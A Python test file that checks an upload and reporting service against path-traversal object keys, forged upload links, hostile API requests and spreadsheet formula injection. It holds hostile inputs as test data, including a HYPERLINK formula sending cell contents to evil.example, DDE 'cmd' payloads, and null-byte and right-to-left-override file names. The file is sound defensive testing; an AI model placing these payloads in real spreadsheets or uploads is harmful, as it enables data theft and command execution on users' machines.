"""Hostile keys, formula payloads and hostile API requests, through the running stack.

Keys that try path tricks are refused and recorded under INTAKE#REJECTED with nothing written for any unit;
a county link cannot name another unit's prefix; formula payloads are stored and served verbatim as data
and come out of every export as text; the API answers every bad request with a JSON 4xx, no stack trace.
"""

from __future__ import annotations

import io
import json
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from infra.local.samples import GOOD_ROWS, issue_list_workbook
from tests.conftest import LOCAL, OFFICE_TOKEN, api_get, dynamo_store, wait_for

CAMPAIGN = "xinzhou-2023"


def _submissions_with_key(unit: str, key: str) -> list[Any]:
    return [s for s in dynamo_store().unit_submissions(CAMPAIGN, unit, limit=1000).items if s.object_key == key]


# --- keys -------------------------------------------------------------------------------------------------

TRICKS = {
    "dot-dot": ("uploads/xinzhou-2023/140981/../140921/issue-list/2023-05/x.xlsx", ("KEY_SHAPE", "KEY_UNSAFE")),
    "dot-dot-in-place": ("uploads/xinzhou-2023/140981/issue-list/../x.xlsx", ("KEY_SHAPE", "KEY_UNSAFE")),
    "encoded-slash": ("uploads/xinzhou-2023/140981%2F..%2F140921/issue-list/2023-05/x.xlsx", ("UNKNOWN_UNIT",)),
    "unknown-unit": ("uploads/xinzhou-2023/140999/issue-list/2023-05/x.xlsx", ("UNKNOWN_UNIT",)),
    "empty-segment": ("uploads/xinzhou-2023//140921/issue-list/2023-05/x.xlsx", ("KEY_SHAPE", "KEY_UNSAFE")),
    "control-char": ("uploads/xinzhou-2023/140921/issue-list/2023-05/x\x07.xlsx", ("KEY_INVISIBLE_CHARACTER",)),
    "unknown-campaign": ("uploads/other-2023/140921/issue-list/2023-05/x.xlsx", ("UNKNOWN_CAMPAIGN",)),
}


def test_path_tricks_in_keys_are_refused_and_recorded_and_write_nothing_for_any_unit(system: Any) -> None:
    s3 = system.client("s3")
    versions = {}
    for name, (key, _codes) in TRICKS.items():
        versions[name] = s3.put_object(Bucket=system.outputs.bucket, Key=key, Body=b"x")["VersionId"]

    def recorded() -> dict[str, Any] | None:
        by_version = {r.version_id: r for r in dynamo_store().refused_uploads(limit=1000)}
        found = {name: by_version.get(version) for name, version in versions.items()}
        return found if all(found.values()) else None

    found = wait_for(recorded, timeout=30)
    for name, (key, codes) in TRICKS.items():
        record = found[name]
        assert record.code in codes, (name, record.code)
        assert record.object_key == key and "请" in record.message
    for unit in ("140981", "140921"):
        for key, _codes in TRICKS.values():
            assert _submissions_with_key(unit, key) == []


def test_a_link_made_for_one_unit_cannot_write_under_another(system: Any) -> None:
    from chalicelib.adapters.presign import plan_upload
    from chalicelib.domain.links import Grant, LinkError
    from chalicelib.domain.registry import default_registry

    registry = default_registry()
    campaign = registry.campaign(CAMPAIGN)
    assert campaign is not None
    unit_a, deliverable = campaign.unit("140981"), campaign.deliverable("issue-list")
    assert unit_a is not None and deliverable is not None
    grant = Grant(campaign, unit_a, (deliverable,), "2023-05", datetime(2099, 1, 1, tzinfo=UTC), {})
    limit = 20 * 1024 * 1024
    for name in (
        "../../140921/issue-list/2023-05/x.xlsx",
        "..\\140921\\x.xlsx",
        "140921/x.xlsx",
        "x.xlsx\x00.exe",
        "\u202ex.xlsx",
    ):
        with pytest.raises(LinkError):
            plan_upload(registry, grant, "issue-list", name, 10, limit)
    # A name that merely looks like a path stays a file name under unit A's own prefix.
    planned = plan_upload(registry, grant, "issue-list", "..%2F140921%2Fx.xlsx", 10, limit)
    assert planned.key == "uploads/xinzhou-2023/140981/issue-list/2023-05/..%2F140921%2Fx.xlsx"


# --- formula payloads ---------------------------------------------------------------------------------------

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
)


def test_formula_payloads_are_stored_verbatim_and_neutralised_in_the_export(system: Any) -> None:
    from openpyxl import load_workbook

    unit, period = "140931", "2023-06"  # 保德县
    rows = [replace(row, symptom=f"{payload}，群众反映强烈") for row, payload in zip(GOOD_ROWS, PAYLOADS, strict=False)]
    rows.append(replace(GOOD_ROWS[0], measure=PAYLOADS[3] + "，立行立改"))
    key = f"uploads/{CAMPAIGN}/{unit}/issue-list/{period}/保德县6月清单.xlsx"
    body = issue_list_workbook("保德县交通运输局", rows)
    system.client("s3").put_object(Bucket=system.outputs.bucket, Key=key, Body=body)

    def ledger() -> dict[str, Any] | None:
        status, page = api_get(f"/campaigns/{CAMPAIGN}/issues", period=period, unit=unit)
        return page if status == 200 and page["count"] == len(rows) else None

    page = wait_for(ledger, timeout=30)
    served = json.dumps(page, ensure_ascii=False)
    for payload in PAYLOADS:
        assert json.dumps(payload, ensure_ascii=False)[1:-1] in served  # verbatim, as data

    request = urllib.request.Request(
        f"{LOCAL.api_url}/campaigns/{CAMPAIGN}/issues.xlsx?period={period}&unit={unit}",
        headers={"Authorization": f"Bearer {OFFICE_TOKEN}", "Accept": "*/*"},
    )
    with urllib.request.urlopen(request, timeout=10) as response:
        workbook = load_workbook(io.BytesIO(response.read()))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    dangerous = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert len(dangerous) >= len(PAYLOADS)
    assert all(c.data_type == "s" and c.quotePrefix for c in dangerous)


# --- the API ------------------------------------------------------------------------------------------------


def _raw(
    path: str, headers: dict[str, str] | None = None, method: str = "GET", data: bytes | None = None
) -> tuple[int, str]:
    request = urllib.request.Request(f"{LOCAL.api_url}{path}", headers=headers or {}, method=method, data=data)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()


def _county_token(system: Any) -> str:
    status, body = _raw(
        f"/campaigns/{CAMPAIGN}/upload-links",
        {"Authorization": f"Bearer {OFFICE_TOKEN}", "Content-Type": "application/json"},
        "POST",
        json.dumps({"unit": "原平市", "deliverable": "issue-list", "period": "2023-05", "valid_days": 2}).encode(),
    )
    assert status == 201, body
    return json.loads(body)["url"].rsplit("/", 1)[-1]


def test_hostile_api_requests_get_json_4xx_without_traces_or_data(system: Any) -> None:
    county = _county_token(system)
    long = "原" * 65
    submissions = f"/campaigns/{CAMPAIGN}/submissions"
    cases = [
        # (path, token, expected status)
        (submissions, None, 401),
        (submissions, "", 401),
        (submissions, OFFICE_TOKEN + "x", 401),
        (submissions, "Bearer " + OFFICE_TOKEN, 401),
        (submissions, county, 401),  # a county link is no office token
        (submissions, "x" * 10_000, 401),
        ("/campaigns/no-such-campaign/submissions", OFFICE_TOKEN, 404),
        ("/campaigns/" + "x" * 300 + "/status", OFFICE_TOKEN, 404),
        (submissions + "?unit=" + urllib.parse.quote(long), OFFICE_TOKEN, 400),
        (submissions + "?limit=" + "9" * 70, OFFICE_TOKEN, 400),
        (submissions + "?cursor=" + "A" * 600, OFFICE_TOKEN, 400),
        (submissions + "?evil=1", OFFICE_TOKEN, 400),
        (f"/campaigns/{CAMPAIGN}/status?as_of=2023-02-30", OFFICE_TOKEN, 400),
        (f"/campaigns/{CAMPAIGN}/issues?overdue=maybe", OFFICE_TOKEN, 400),
    ]
    for path, token, expected in cases:
        headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
        status, body = _raw(path, headers)
        assert status == expected, (path, token[:20] if token else token, status, body[:200])
        document = json.loads(body)  # JSON, whatever went wrong
        assert "Traceback" not in body and 'File "' not in body
        if status == 401:
            assert document == {"message": "Unauthorized"}  # says nothing about campaigns or units
        else:
            assert document.get("Message") and document.get("Code")


def test_county_links_forged_or_expired_are_refused_in_json(system: Any) -> None:
    county = _county_token(system)
    payload, mac = county.split(".")
    forged = f"{payload}.{'A' * len(mac)}"
    for token in (forged, "x", "a.b", "." * 3000):
        status, body = _raw(f"/u/{urllib.parse.quote(token)}/submissions")
        assert status in (400, 403, 404), (token[:20], status)
        assert "Traceback" not in body
